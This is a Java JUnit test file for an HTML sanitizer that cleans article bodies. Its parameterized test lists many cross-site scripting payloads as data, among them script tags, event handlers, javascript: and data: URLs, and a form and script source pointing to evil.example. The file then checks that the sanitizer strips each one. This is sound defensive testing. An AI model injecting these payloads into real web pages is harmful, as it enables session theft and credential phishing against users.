package org.gotrs.article.body;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HtmlSanitizerTest {

  private final HtmlSanitizer sanitizer = new HtmlSanitizer();

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "<img src=x onerror=alert(1)>",
      "<p>hello<script>alert(1)</script></p>",
      "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
      "<a href=\"javascript:alert(1)\">click</a>",
      "<a href=\" JaVaScRiPt:alert(1)\">click</a>",
      "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
      "<svg onload=alert(1)><circle r=1 /></svg>",
      "<svg><script>alert(1)</script></svg>",
      "<iframe src=\"https://evil.example\"></iframe>",
      "<style>body{background:url(javascript:alert(1))}</style><p style=\"x:expression(alert(1))\">x</p>",
      "<a href=\"https://ok.example\" title='\"><script>alert(1)</script>'>t</a>",
      "<p title=\"x\" onmouseover=\"alert(1)\">hover</p>",
      "<IMG SRC=JaVaScRiPt:alert('XSS')>",
      "<IMG SRC=\"jav\tascript:alert('XSS');\">",
      "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open</a>",
      "<img src=\"data:text/html,<script>alert(1)</script>\">",
      "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
      "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
      "<form action=\"https://evil.example\"><input name=password><button>go</button></form>",
      "<body onload=alert(1)>text</body>",
      "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
      "<div><img src=\"x\" alt=\"\" onerror=\"alert(1)\"></div>",
      "<base href=\"javascript:alert(1)//\"><a href=\"/x\">x</a>",
      "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
      "<a href=\"vbscript:msgbox(1)\">x</a>",
      "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
  })
  @DisplayName("XSS vectors leave no script, handler, frame, form, style or dangerous URL behind")
  void xssVectorsAreNeutralised(String attack) {
    String clean = sanitizer.sanitize(attack);
    assertNoActiveContent(clean);
  }

  @Test
  @DisplayName("paragraphs, emphasis, lists, tables and quotes survive unchanged")
  void safeMarkupSurvives() {
    String html = "<p>Hello <b>bold</b> <i>italic</i> <strong>strong</strong> <em>em</em></p>"
        + "<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>"
        + "<table><tbody><tr><th>Name</th><td>Value</td></tr></tbody></table>"
        + "<blockquote>quoted</blockquote><pre>code</pre>";
    assertEquals(html, sanitizer.sanitize(html));
  }

  @Test
  @DisplayName("https and mailto links survive with rel=\"nofollow noopener noreferrer\"")
  void linksGetRelNoFollow() {
    String clean = sanitizer.sanitize("<a href=\"https://example.com/a?b=1&amp;c=2\" target=\"_blank\">docs</a>"
        + "<a href=\"mailto:help@example.com\" rel=\"opener\">mail</a>");
    var links = Jsoup.parseBodyFragment(clean).select("a");
    assertEquals("https://example.com/a?b=1&c=2", links.get(0).attr("href"));
    assertEquals("mailto:help@example.com", links.get(1).attr("href"));
    for (Element link : links) {
      assertEquals("nofollow noopener noreferrer", link.attr("rel"));
      assertTrue(!link.hasAttr("target"), "no target: it would give the new page window.opener");
    }
  }

  @Test
  @DisplayName("ftp and relative links lose their target but keep their text")
  void otherLinksLoseTheirTarget() {
    String clean = sanitizer.sanitize("<a href=\"ftp://example.com/f\">file</a> <a href=\"/admin\">admin</a>");
    assertEquals("file admin", Jsoup.parseBodyFragment(clean).text());
    assertTrue(Jsoup.parseBodyFragment(clean).select("a[href]").isEmpty(), clean);
  }

  @Test
  @DisplayName("a knowledge-base article's own image (/help/files/<id>/<name>) survives; other paths of the site do not")
  void knowledgeBaseImagesSurvive() {
    String clean = sanitizer.sanitize("<img src=\"/help/files/12/printer-tray.png\" alt=\"tray\">"
        + "<img src=\"/api/v1/kb/files/12\"><img src=\"/help/files/12/../../admin\"><img src=\"//evil.example/x.png\">"
        + "<a href=\"/help/files/12/x.png\">link</a>");
    var images = Jsoup.parseBodyFragment(clean).select("img");
    assertEquals(1, images.size(), clean);
    assertEquals("/help/files/12/printer-tray.png", images.get(0).attr("src"));
    assertTrue(Jsoup.parseBodyFragment(clean).select("a[href]").isEmpty(), clean);
  }

  @Test
  @DisplayName("inline images survive with cid:, raster data: and https sources")
  void inlineImagesSurvive() {
    String html = "<img src=\"cid:image001.png@01D9\" alt=\"logo\">"
        + "<img src=\"data:image/png;base64,iVBORw0KGgo=\">"
        + "<img src=\"data:image/jpeg;base64,/9j/4AAQ\">"
        + "<img src=\"https://example.com/a.gif\">";
    assertEquals(html, sanitizer.sanitize(html));
  }

  @Test
  @DisplayName("images over plain http or without a source are dropped entirely")
  void unsafeImagesAreDropped() {
    assertEquals("<p>a b</p>", sanitizer.sanitize("<p>a <img src=\"http://tracker.example/p.gif\">b<img></p>"));
  }

  @Test
  @DisplayName("null and blank input give an empty body")
  void emptyInput() {
    assertEquals("", sanitizer.sanitize(null));
    assertEquals("", sanitizer.sanitize("  \n"));
  }

  /** Parses the output as a browser would and looks for anything that could run. */
  static void assertNoActiveContent(String html) {
    var document = Jsoup.parseBodyFragment(html);
    var active = document.body().select(
        "script, style, iframe, frame, object, embed, form, input, button, svg, math, base, meta, link");
    assertTrue(active.isEmpty(), "active elements in: " + html);
    for (Element element : document.body().getAllElements()) {
      element.attributes().forEach(attribute -> {
        String key = attribute.getKey().toLowerCase();
        String value = attribute.getValue().replaceAll("[\\s\\u0000-\\u001f]", "").toLowerCase();
        assertTrue(!key.startsWith("on") && !key.equals("style"), "attribute " + key + " in: " + html);
        assertTrue(!value.contains("javascript:") && !value.contains("vbscript:"), "script URL in: " + html);
        if (key.equals("href") || key.equals("src")) {
          assertTrue(!value.startsWith("data:") || value.matches("data:image/(png|gif|jpeg|webp)[;,].*"),
              "data URL in: " + html);
        }
      });
    }
  }
}
